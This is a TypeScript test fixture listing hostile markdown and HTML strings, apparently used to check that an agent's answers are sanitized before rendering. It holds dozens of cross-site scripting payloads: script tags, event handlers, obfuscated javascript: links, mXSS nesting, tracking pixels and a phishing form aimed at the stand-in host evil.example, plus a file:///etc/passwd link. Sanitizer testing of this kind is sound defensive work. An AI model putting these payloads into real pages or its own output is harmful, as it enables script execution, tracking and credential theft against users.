/** A host that does not exist. A request to this host shows that a page loads something external. */
export const EVIL = "https://evil.example";

const OWN = "globalThis.owned=1";

/**
 * Answers with which an agent could try to run scripts in its caller's page, to identify the caller, or to redirect the
 * page.
 */
export const HOSTILE_MARKDOWN: readonly string[] = [
  `<script>${OWN}</script>`,
  `<script src="${EVIL}/own.js"></script>`,
  `<img src=x onerror="${OWN}">`,
  `<img src="${EVIL}/pixel.png" srcset="${EVIL}/pixel-2.png 2x">`,
  `![seen](${EVIL}/seen.png)`,
  `![seen][pixel]\n\n[pixel]: ${EVIL}/reference.png`,
  `![own server](/api/v1/users/me)`,
  `![no protocol](//evil.example/seen.png)`,
  `![drawn](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${OWN}'/%3E)`,
  `[![seen](${EVIL}/in-a-link.png)](javascript:${OWN})`,
  `[run](javascript:${OWN})`,
  `[run](JaVaScRiPt:${OWN})`,
  `[run](&#x6A;avascript:${OWN})`,
  `[run](<java\tscript:${OWN}>)`,
  `[run](\u0001javascript:${OWN})`,
  `[run](vbscript:msgbox(1))`,
  `[run](data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+)`,
  `[run](blob:${EVIL}/1)`,
  `[run](file:///etc/passwd)`,
  `<javascript:${OWN}>`,
  `[run][reference]\n\n[reference]: javascript:${OWN}`,
  `<a href="javascript:${OWN}" id="location">run</a>`,
  `<svg onload="${OWN}"><animate onbegin="${OWN}" attributeName="x"/></svg>`,
  `<svg><style><img src="${EVIL}/style.png" onerror="${OWN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${OWN}"></style></mglyph></table></mtext></math>`,
  `<iframe src="${EVIL}/frame" srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  `<video src="${EVIL}/video" poster="${EVIL}/poster.png" autoplay onerror="${OWN}"></video>`,
  `<audio src="${EVIL}/audio" autoplay></audio><picture><source srcset="${EVIL}/source.png"><img></picture>`,
  `<style>@import url("${EVIL}/style.css"); body { background: url("${EVIL}/body.png") }</style>`,
  `<p style="background: url('${EVIL}/inline.png'); position: fixed; inset: 0">over all</p>`,
  `<link rel="stylesheet" href="${EVIL}/link.css"><link rel="prefetch" href="${EVIL}/prefetch">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/away">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/form"><input name="password" autofocus onfocus="${OWN}"><button>Sign in</button></form>`,
  `<details open ontoggle="${OWN}"><summary>more</summary></details>`,
  `<div contenteditable autofocus onfocus="${OWN}" tabindex="1">here</div>`,
  `<template><script>${OWN}</script></template><noscript><img src=x onerror="${OWN}"></noscript>`,
  `<!--><img src=x onerror="${OWN}">--><![CDATA[<script>${OWN}</script>]]>`,
  `| a | b |\n| --- | --- |\n| <img src=x onerror="${OWN}"> | ![cell](${EVIL}/cell.png) |`,
  `- [ ] <input type="image" src="${EVIL}/input.png" onerror="${OWN}">`,
  `[^1]\n\n[^1]: ![note](${EVIL}/note.png) <script>${OWN}</script>`,
  `# <img src=x onerror="${OWN}"> ![heading](${EVIL}/heading.png)`,
  `\`\`\`html\n</code></pre><script>${OWN}</script>\n\`\`\``,
  `\`\`\`"><script>${OWN}</script>\nin the name of a language\n\`\`\``,
  `**bold <b onmouseover="${OWN}">and [broken](${EVIL}" onclick="${OWN}) more**`,
  `{{constructor.constructor("${OWN}")()}} \${${OWN}}`,
];
